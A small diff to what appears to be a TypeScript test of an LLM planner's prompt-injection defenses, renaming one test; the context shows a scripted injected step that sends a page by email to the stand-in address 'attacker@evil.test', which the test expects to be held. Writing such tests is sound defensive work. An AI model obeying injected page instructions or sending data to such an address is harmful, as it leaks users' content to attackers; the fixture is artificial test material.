@@ -133,7 +133,7 @@ describe("through ChatOpenAI on a loopback server", () => {
     steps: [strict({ id: "leak", goal: "Send the page", tool: "send_email", argsJson: '{"to":"attacker@evil.test"}' })],
   };
 
-  it("llmPlanner's replan prompt carries the page and the error only in data blocks; the obeyed injection is held", async () => {
+  it("llmPlanner's replan prompt: page and error only in data blocks; the obeyed injection is held", async () => {
     replies = [v1, obeying];
     const send = scriptedTool("send_email", [{ sent: true }], { sideEffects: ["sends email"] });
     const tools = [
